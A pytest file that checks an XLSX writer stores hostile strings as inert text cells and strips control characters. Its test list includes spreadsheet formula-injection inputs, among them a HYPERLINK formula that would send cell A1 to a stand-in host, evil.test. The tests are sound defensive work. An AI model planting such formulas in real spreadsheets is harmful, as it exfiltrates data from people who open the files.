"""The one XLSX cell writer (lti_tool/core/workbook.py): read back with openpyxl as Excel would."""
from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from lti_tool.core.workbook import append_row, clean_text, new_workbook, to_bytes

HOSTILE = ['=HYPERLINK("https://evil.test/?d="&A1,"Открыть")', "+7 (3822) 55-00-00", "-1+1", "@SUM(1,2)",
           "=1+2", "#N/A", "#DIV/0!", "\tтабуляция", "＝1+1", "Анна\x01 Петровна", "нуль\x00", "обычный текст"]


@pytest.mark.parametrize("write_only", [False, True])
def test_strings_are_text_cells_without_control_characters(write_only):
    wb = new_workbook(write_only=write_only)
    ws = wb.create_sheet("Лист") if write_only else wb.active
    append_row(ws, ["Заголовок", 1], bold=True)
    for value in HOSTILE:
        append_row(ws, [value, 42, 2.5, date(2025, 10, 15), None, True])
    sheet = load_workbook(io.BytesIO(to_bytes(wb))).worksheets[-1]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE)
    for value, row in zip(HOSTILE, rows, strict=True):
        text, number, fraction, day, empty, flag = row
        assert text.data_type == "s" and text.value == clean_text(value)
        assert bool(text.quotePrefix) == (clean_text(value)[:1] in "=+-@\t＝")
        assert (number.value, fraction.value, day.value.date(), empty.value, flag.value) == (42, 2.5, date(2025, 10, 15),
                                                                                               None, True)
    assert sheet.cell(1, 1).font.bold
    assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type in ("f", "e")]


def test_clean_text_keeps_tabs_and_newlines_and_drops_other_controls():
    assert clean_text("a\tb\nc\rd\x00e\x1bf\x7f") == "a\tb\nc\rde" + "f\x7f"
    assert len(clean_text("я" * 40000)) == 32767
